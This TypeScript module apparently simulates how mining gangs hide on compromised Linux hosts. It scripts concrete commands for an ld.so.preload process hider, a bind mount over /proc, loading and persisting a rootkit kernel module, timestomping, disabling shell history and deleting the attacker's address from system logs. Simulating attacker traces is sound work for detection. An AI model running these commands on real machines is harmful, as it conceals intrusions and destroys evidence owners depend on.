import type { Foothold } from '../../gangs/gang.ts'
import type { RunningMiner } from '../../host/host.ts'
import type { Act } from '../../schedule.ts'
import { baseName, word } from './draw.ts'

/** A library that every program loads, and which leaves one name out of every listing (libprocesshider and its kin). */
export function* preloadHider(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { random, hands, gang } = foothold
  const folder = random.pick(['/usr/local/lib', '/usr/lib/x86_64-linux-gnu', '/lib', '/etc'])
  const library = `${folder}/${random.pick(['libs', 'libsystem', 'pscap', 'libselinx', 'libudev-s'])}${random.integer(1, 9)}.so`
  const { paths } = gang.traits.download
  if (!(yield* foothold.fetch(paths.at(-1) ?? '/l', library, { what: 'library' }))) return
  yield* foothold.pause('script')
  const shell = yield* hands.builtin(`echo ${library} >> /etc/ld.so.preload`)
  foothold.write('/etc/ld.so.preload', { what: 'preload' }, shell)
  if (random.chance(0.5)) yield* foothold.chattr('+i', '/etc/ld.so.preload')
}

/** An empty folder over the process's place in /proc. */
export function* bindOverProc(foothold: Foothold, miner: RunningMiner | null): Act {
  if (!foothold.isRoot || miner === null) return
  const { hands, random } = foothold
  const empty = `${random.pick(['/tmp', '/var/tmp', '/usr/lib'])}/.${word(random, 3, 6)}`
  yield* hands.run(['mkdir', '-p', empty])
  yield* hands.run(['mount', '-o', 'bind', empty, `/proc/${miner.process.pid}`])
}

/** A kernel module that hides by signal or by prefix (Diamorphine and its kin). */
export function* loadModule(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { hands, random, gang } = foothold
  const source = `/tmp/.${word(random, 4, 7)}`
  yield* hands.run(['uname', '-r'])
  if (
    !(yield* foothold.fetch(gang.traits.download.paths.at(-1) ?? '/m', `${source}.tgz`, { what: 'archive' }))
  )
    return
  yield* hands.run(['tar', 'xzf', `${source}.tgz`, '-C', '/tmp'])
  const module = `/lib/modules/6.1.0-21-cloud-amd64/kernel/drivers/${random.pick(['input', 'misc', 'net'])}/${random.pick(['snd_pcs', 'ip_tabs', 'usbh', 'kvm_ex'])}.ko`
  const make = yield* hands.run(['make', '-C', '/tmp'], { replyBytes: 900 })
  foothold.write(module, { what: 'module', isNew: true }, make)
  yield* hands.run(['insmod', module])
  const shell = yield* hands.builtin(`echo ${baseName(module).replace('.ko', '')} >> /etc/modules`)
  foothold.write('/etc/modules', { what: 'config', isNew: false }, shell)
}

/** The times of something old for something new. */
export function* timestomp(foothold: Foothold, path: string): Act {
  yield* foothold.hands.run([
    'touch',
    '-r',
    foothold.random.pick(['/bin/ls', '/etc/hostname', '/bin/sh']),
    path,
  ])
}

/** The binary runs on without its file. What looks for the file finds none; nothing brings it back either. */
export function* removeBinary(foothold: Foothold): Act {
  const { path } = foothold.gang.traits.miner
  const rm = yield* foothold.hands.run(['rm', '-f', path])
  foothold.remove(path, rm)
}

/** What the account's shell would have written down. */
export function* quietHistory(foothold: Foothold): Act {
  const { hands, random } = foothold
  const { home } = hands.user
  if (random.chance(0.4)) {
    yield* hands.run(['ln', '-sf', '/dev/null', `${home}/.bash_history`])
    return
  }
  yield* hands.builtin(random.pick(['unset HISTFILE', 'export HISTFILE=/dev/null', 'set +o history']))
}

/** Lines with one address taken out of logs that are still there, so that nothing is missing at first sight. */
export function* cutAddressFromLogs(foothold: Foothold): Act {
  if (!foothold.isRoot) return
  const { hands, random, gang } = foothold
  const [source = '0.0.0.0'] = gang.traits.sources
  for (const path of ['/var/log/auth.log', '/var/log/syslog', '/var/log/nginx/access.log']) {
    if (!random.chance(0.5)) continue
    const sed = yield* hands.run(['sed', '-i', `/${source}/d`, path])
    foothold.write(path, { what: 'log-wipe', isNew: false }, sed)
  }
}
